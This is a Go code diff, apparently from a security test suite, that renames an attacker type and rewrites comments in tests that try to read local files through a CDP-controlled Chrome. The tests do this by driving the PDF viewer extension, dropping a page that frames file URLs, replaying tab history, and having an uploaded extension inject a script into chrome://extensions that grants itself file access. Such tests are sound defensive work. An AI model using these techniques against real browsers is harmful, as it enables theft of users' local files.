@@ -14,11 +14,11 @@ import (
 
 const viewer = "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html"
 
-// byViewerPage opens the PDF viewer, an extension of Chrome's own that may open
-// files, in a tab.
-func byViewerPage(x *thief) {
+// byViewerPage opens the PDF viewer, an extension of Chrome that may open files, in a
+// tab.
+func byViewerPage(x *fileAttacker) {
 	x.enter(obj{"engine": x.engine})
-	for _, l := range x.loot {
+	for _, l := range x.wanted {
 		page, _ := x.newPage("/")
 		x.spy(page)
 		if x.step(page, "Page.navigate", obj{"url": viewer}).Error != nil {
@@ -29,8 +29,8 @@ func byViewerPage(x *thief) {
 	}
 }
 
-// ready waits until the viewer's document is there, for the time of a step.
-func (x *thief) ready(session string) {
+// ready waits until the viewer's document exists, for the time of a step.
+func (x *fileAttacker) ready(session string) {
 	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
 		if x.eval(session, `document.readyState + !!(self.chrome && chrome.tabs)`) == "completetrue" {
 			return
@@ -39,16 +39,16 @@ func (x *thief) ready(session string) {
 	}
 }
 
-// byViewerFrame drives the PDF viewer where it shows a PDF.
-func byViewerFrame(x *thief) {
+// byViewerFrame drives the PDF viewer in a frame that shows a PDF.
+func byViewerFrame(x *fileAttacker) {
 	x.enter(obj{"engine": x.engine, "start_url": x.site.URL + "/paper.pdf"})
 	found := x.find(viewer[:40])
 	if found == "" {
-		return // a wall hides it
+		return // a protection hides it
 	}
 	frame := x.attach(found)
 	x.ready(frame)
-	for _, l := range x.loot {
+	for _, l := range x.wanted {
 		own := "/" + rand.Text()
 		page, _ := x.newPage(own)
 		x.spy(page)
@@ -57,16 +57,16 @@ func byViewerFrame(x *thief) {
 	}
 }
 
-// byDrop drops a page of its own on a page that does not take it. It frames the
-// files.
-func byDrop(x *thief) {
+// byDrop drops a page of the attacker on a page that does not accept drops. The dropped
+// page frames the files.
+func byDrop(x *fileAttacker) {
 	x.enter(obj{"engine": x.engine})
 	upload(x.t, x.d, x.s.ID, "evil.html", `<body><script>for (const url of ["`+strings.Join(x.urls(), `","`)+`"]) {
 		const f = document.createElement("iframe"); f.src = url; document.body.append(f) }</script></body>`)
 	page, _ := x.newPage("/")
 	x.step("", "Target.setAutoAttach", obj{"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true})
-	// Chrome drops on what it has drawn, so that a drop right after the load may go
-	// nowhere; and the targets that were there before are announced too.
+	// Chrome delivers a drop to what it has drawn, so a drop right after the load may be
+	// lost. Targets that existed before are announced too.
 	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end) && !x.all(); {
 		for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
 			x.w.post(page, "Input.dispatchDragEvent", obj{"type": kind, "x": 50, "y": 50,
@@ -76,12 +76,12 @@ func byDrop(x *thief) {
 	}
 }
 
-// dropTime is how long a drop may take to open its page, before the next one.
+// dropTime is how long to wait for a drop to open its page before the next drop.
 const dropTime = 2 * time.Second
 
-// spyOnNew spies on every target that is announced, until all has arrived or the time
-// is over.
-func (x *thief) spyOnNew(within time.Duration) {
+// spyOnNew spies on every announced target, until all wanted files have arrived or the
+// time is over.
+func (x *fileAttacker) spyOnNew(within time.Duration) {
 	for end := time.Now().Add(within); time.Now().Before(end) && !x.all(); {
 		e, ok := x.w.find("", "Target.attachedToTarget")
 		if !ok {
@@ -99,8 +99,8 @@ func (x *thief) spyOnNew(within time.Duration) {
 	}
 }
 
-// byBackList goes back to files in a tab that was imported.
-func byBackList(x *thief) {
+// byBackList goes back to files in the history of an imported tab.
+func byBackList(x *fileAttacker) {
 	x.restore()
 	page, _ := x.w.page()
 	x.spy(page)
@@ -120,15 +120,15 @@ func byBackList(x *thief) {
 	}
 }
 
-// opener is an extension that may drive tabs.
+// opener is an extension that may control tabs.
 var opener = map[string]string{
 	"manifest.json": `{"manifest_version": 3, "name": "Opener", "version": "1.0", "permissions": ["tabs"], "host_permissions": ["<all_urls>"]}`,
 	"page.html":     `<title>opener</title>`,
 }
 
-// install uploads the extension and begins a session with it. It gives the extension's
-// ID and the session of a page of its own.
-func (x *thief) install() (id, own string) {
+// install uploads the extension and creates a session with it. It returns the
+// extension's ID and the CDP session of one of its pages.
+func (x *fileAttacker) install() (id, own string) {
 	x.t.Helper()
 	var packed bytes.Buffer
 	z := zip.NewWriter(&packed)
@@ -152,42 +152,41 @@ func (x *thief) install() (id, own string) {
 	return e.ID, own
 }
 
-// bySettings has an extension open Chrome's page of extensions, where an added
-// script lets it read files.
-func bySettings(x *thief) {
+// bySettings makes an extension open chrome://extensions, where an added script lets it
+// read files.
+func bySettings(x *fileAttacker) {
 	x.settings(func(page, script string) {
 		x.step(page, "Page.addScriptToEvaluateOnNewDocument", obj{"source": `if (location.protocol == "chrome:") ` + script})
 	})
 }
 
-// byCondition is bySettings with a breakpoint that never stops.
-func byCondition(x *thief) {
+// byCondition is bySettings with a breakpoint whose condition runs the script and never
+// stops.
+func byCondition(x *fileAttacker) {
 	x.settings(func(page, script string) {
 		x.step(page, "Debugger.enable", nil)
 		x.step(page, "Debugger.setBreakpointByUrl", obj{"lineNumber": 0, "urlRegex": "^chrome://extensions/.*", "condition": script + ", false"})
 	})
 }
 
-// settings has add put a script into Chrome's page of extensions, which an extension
-// opens then.
-func (x *thief) settings(add func(page, script string)) {
+// settings adds a script with add to chrome://extensions, which an extension then opens.
+func (x *fileAttacker) settings(add func(page, script string)) {
 	id, own := x.install()
 	page, _ := x.newPage("/")
 	x.spy(page)
 	add(page, `chrome.developerPrivate.updateExtensionConfiguration({extensionId: "`+id+`", fileAccess: true}, () => console.log("granted"))`)
 	x.sendTab(own, "chrome://extensions")
 	x.until("granted")
-	fresh, _ := x.newPage("/") // the extension was loaded anew, and its page with it
+	fresh, _ := x.newPage("/") // the extension was reloaded, and its page with it
 	x.step(fresh, "Runtime.enable", nil)
 	x.step(fresh, "Page.enable", nil)
 	x.step(fresh, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
-	for _, l := range x.loot {
+	for _, l := range x.wanted {
 		x.eval(fresh, `fetch("`+l.url()+`").then(r => r.text()).then(t => console.log(t), String)`)
 	}
 }
 
-// sendTab has the page of the extension send the tab that shows the thief's site to an
-// address.
-func (x *thief) sendTab(own, url string) {
+// sendTab makes the extension's page navigate the tab of the attacker's site to an address.
+func (x *fileAttacker) sendTab(own, url string) {
 	x.eval(own, `new Promise(ok => chrome.tabs.query({}, t => chrome.tabs.update(t.find(t => t.url == "`+x.site.URL+`/").id, {url: "`+url+`"}, ok)))`)
 }
